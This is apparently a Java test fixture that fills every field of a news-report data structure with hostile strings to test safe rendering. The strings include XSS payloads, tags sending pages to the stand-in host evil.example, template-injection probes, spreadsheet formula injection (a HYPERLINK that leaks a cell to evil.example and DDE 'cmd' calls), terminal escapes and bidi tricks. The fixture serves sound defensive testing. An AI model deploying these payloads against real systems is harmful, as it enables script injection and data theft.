package dateline.present;

import dateline.account.Account;
import dateline.codec.TerminalStory;
import dateline.report.Report;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalDouble;

/** An account in which every text that can come from a report is an attack on whoever shows it. */
public final class HostileStory {
    public static final List<String> PAYLOADS = List.of(
            "<script>document.title='owned'</script>",
            "<img src=x onerror=\"document.title='owned'\">",
            "\"><svg/onload=document.title='owned'>",
            "'><iframe src=javascript:document.title='owned'></iframe>",
            "</style><script>document.title='owned'</script><style>",
            "</title></head><body onload=document.title='owned'>",
            "<a href=\"javascript:document.title='owned'\">press</a>",
            "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/a.css>",
            "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
            "<form action=http://evil.example/><input name=q autofocus onfocus=document.title='owned'>",
            "&lt;b&gt; &amp; &#x3C;script&#x3E; &nbsp",
            "<!-- comment --> ]]> <![CDATA[ x ]]> <?php ?>",
            "{{constructor.constructor('document.title=1')()}} ${7*7} <%= 7*7 %>",
            "right to left \u202Egnp.exe\u202C and \u2066isolated\u2069 and \u200Emarks\u200F \u061C",
            "terminal \u001B[31mred\u001B[0m \u001B]0;owned\u0007 \u009B31m \u0000 \b\b\b",
            "hidden\u200Bjoin\uFEFFed\u2060 \uDB40\uDC41\uDB40\uDC42 tags",
            "flags \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC65\uDB40\uDC6E\uDB40\uDC67\uDB40\uDC7F 🇫🇮 family 👩‍👩‍👧‍👦 ☝🏽",
            "Z\u0341\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u030Dalgo",
            "lone \uD83C surrogate \uDF0A end",
            "W" + "o".repeat(10_000) + "rd",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"press\")",
            "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3, \"quoted\", comma\ttab",
            "[press](javascript:alert(1)) ![](http://evil.example/a.png) `code` **bold** _it_ ~~no~~ [^m1] | a | b |",
            "# heading",
            "1. list",
            "> quote --- $x^2$ \\ <http://evil.example/> http://evil.example/ @user #1",
            "السلام عليكم hello שלום",
            "港口爆炸造成至少三人死亡，警方称",
            "two\r\nlines\rand\u2028more\u2029and\u0085next");

    private HostileStory() {}

    public static List<Report> reports() {
        return List.of(TerminalStory.report(
                PAYLOADS.get(0) + ".txt",
                String.join("\n\n", PAYLOADS) + "\n",
                "2031-03-05",
                Optional.of(PAYLOADS.get(1))));
    }

    public static Account account() {
        Report report = reports().get(0);
        List<Account.Provenance> mentions = new ArrayList<>();
        List<Account.Event> events = new ArrayList<>();
        List<Account.ClaimEntry> claims = new ArrayList<>();
        List<Account.Entity> entities = new ArrayList<>();
        List<Account.BriefSentence> brief = new ArrayList<>();
        List<Account.Position> positions = new ArrayList<>();
        List<Account.OpenQuestion> questions = new ArrayList<>();
        List<Account.LeftOut> leftOut = new ArrayList<>();
        List<Account.Caution> cautions = new ArrayList<>();
        List<Account.Point> points = new ArrayList<>();
        List<Account.AppliedDecision> decisions = new ArrayList<>();
        List<Account.PostEntry> posts = new ArrayList<>();
        int at = 0;
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String text = PAYLOADS.get(i);
            String mention = "m" + (i + 1);
            mentions.add(new Account.Provenance(mention, "r1", i + 1, at, at + text.length(), text));
            at += text.length() + 2;
            List<String> cites = List.of(mention);
            brief.add(new Account.BriefSentence(text, cites));
            entities.add(new Account.Entity(
                    "n" + (i + 1),
                    i % 2 == 0 ? "PERSON" : "PLACE",
                    text,
                    List.of(text + "!", text),
                    List.of(new Account.NotSameAs("n1", mention)),
                    List.of(text),
                    cites));
            events.add(new Account.Event(
                    "e" + (i + 1),
                    i + 1,
                    text,
                    "OTHER",
                    Optional.of(text),
                    new Account.When(
                            i % 3 == 0 ? Optional.empty() : Optional.of(i % 3 == 1 ? "2031-03-04" : text),
                            Optional.of(text),
                            List.of(text),
                            Account.Basis.STATED,
                            text),
                    List.of(new Account.Where(
                            text,
                            Optional.of("FI"),
                            i % 2 == 0 ? OptionalDouble.of(60 + i * 0.1) : OptionalDouble.empty(),
                            i % 2 == 0 ? OptionalDouble.of(25) : OptionalDouble.empty(),
                            i % 2 == 0 ? "city" : "unlocated",
                            Optional.of(text),
                            mention)),
                    i % 7 == 6,
                    i > 0 ? Optional.of("e1") : Optional.empty(),
                    List.of(new Account.Participant("agent", "n" + (i + 1))),
                    List.of(new Account.Quantity(
                            text,
                            Optional.of(text),
                            Optional.of(text),
                            text,
                            OptionalDouble.of(1),
                            OptionalDouble.empty(),
                            Optional.of(text),
                            Optional.of("n1"),
                            mention)),
                    Account.Standing.values()[i % 6],
                    text,
                    1,
                    List.of("s1"),
                    cites,
                    i > 0 ? List.of(new Account.Follows("e1", "cause", mention)) : List.of(),
                    i % 2 == 0));
            claims.add(new Account.ClaimEntry(
                    "c" + (i + 1),
                    Optional.of("n" + (i + 1)),
                    Optional.of(text),
                    List.of(new Account.Via(text, Optional.of(text))),
                    Optional.of(text),
                    text,
                    i % 2 == 0,
                    "asserts",
                    Optional.of("alleged"),
                    List.of("e" + (i + 1)),
                    mention,
                    Optional.of(new Account.Original("m1", "shifted", text)),
                    Optional.of("s1")));
            positions.add(new Account.Position(text, List.of("s1"), cites));
            questions.add(new Account.OpenQuestion("e" + (i + 1), "agent", text, cites));
            leftOut.add(new Account.LeftOut(
                    "r1", mentions.get(i).start(), mentions.get(i).end(), text, text));
            cautions.add(new Account.Caution("other", text));
            points.add(new Account.Point(
                    Optional.of("2031-03-05"), "s1", text, OptionalDouble.of(i), OptionalDouble.empty(), mention));
            decisions.add(new Account.AppliedDecision(text, text, text, text, Optional.of(text), i % 2 == 0));
            posts.add(new Account.PostEntry(
                    "p" + (i + 1), "r1", text, text, Optional.of("2031-03-04"), mention, List.of(text)));
        }
        String all = PAYLOADS.get(0);
        return new Account(
                new Account.Story(
                        "hostile",
                        all,
                        Optional.of("2031-03-04"),
                        Optional.of("2031-03-05"),
                        Optional.of(all),
                        1,
                        PAYLOADS.size(),
                        1),
                brief,
                events,
                claims,
                List.of(new Account.Agreement("a1", all, List.of("e1"), "same", positions)),
                questions,
                List.of(new Account.Disagreement(
                        "d1", "outcome", all, List.of("e1"), false, Optional.of(all), positions)),
                List.of(new Account.Series("q1", "e1", all, Optional.of(all), points)),
                entities,
                mentions,
                List.of(new Account.ReportEntry(
                        "r1",
                        1,
                        report.file(),
                        report.id().sha256(),
                        Optional.of("2031-03-05"),
                        report.outlet(),
                        Optional.of(all),
                        Optional.of("javascript:document.title='owned'"),
                        List.of(all),
                        Optional.empty(),
                        Optional.of(all),
                        cautions,
                        "s1")),
                posts,
                List.of(new Account.Source("s1", "outlet", all, List.of("r1"))),
                leftOut,
                decisions);
    }
}
